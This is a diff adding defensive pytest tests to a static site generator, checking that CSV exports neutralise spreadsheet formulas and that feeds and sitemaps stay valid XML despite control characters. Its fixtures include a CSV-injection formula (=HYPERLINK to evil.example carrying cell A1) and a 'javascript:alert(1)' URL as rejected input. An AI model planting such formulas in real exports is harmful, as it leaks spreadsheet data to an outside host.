@@ -193,6 +193,39 @@ def test_a_broken_file_among_many_read_in_parallel_is_reported_with_its_line(tmp
 
 # --- Issue #17: outputs that stay valid and safe, cost bounded by input size ---
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    root = make_project(tmp_path, {
+        "a.md": f"---\ntitle: A\nsource: '{formula}'\n---\nMore than 300 workers were detained on Friday.\n",
+        "b.md": "---\ntitle: B\nsource: '@SUM(1+1)'\n---\nAbout 450 workers were detained on Friday.\n",
+        "c.md": "---\ntitle: C\nsource: '-2+3'\n---\nSome 300 workers were detained on Friday.\n",
+    })
+    out = tmp_path / "site"
+    build(load_config(root, out))
+    cells = [cell for f in out.rglob("*.csv") for row in csv.reader(f.open(encoding="utf-8")) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_feeds_and_sitemap_stay_well_formed_xml_whatever_the_characters(tmp_path):
+    from xml.etree import ElementTree
+
+    bad = "\x1b\x0b\ufffe\x7f"
+    root = make_project(tmp_path, {
+        "a.md": f'---\ntitle: "Esc{bad} title"\nsource: "Wire\\x1b\\x0b\\ufffe"\nauthor: "A\\x0c"\n---\n'
+                f"More than 300 workers{bad} were detained on Friday.\n",
+        "b.txt": f"Second{bad} headline\n\nAbout 450 workers{bad} were detained in Georgia on Friday.\n",
+    })
+    (root / "coverage-site.yaml").write_text('title: "Desk\\x1b"\ndescription: "Raw\\x0b"\nsite_url: https://example.org/\n')
+    out = tmp_path / "site"
+    build(load_config(root, out))
+    for name in ("feed.xml", "conflicts.xml", "sitemap.xml"):
+        ElementTree.parse(out / name)  # raises on a character XML forbids
+    assert "\x1b" not in (out / "articles" / "b.html").read_text(encoding="utf-8")
+
+
 @pytest.mark.parametrize("url", ["javascript:alert(1)", "ftp://example.org/", "example.org"])
 def test_site_url_must_be_http(tmp_path, url):
     root = make_project(tmp_path, {"a.md": "Text.\n"})
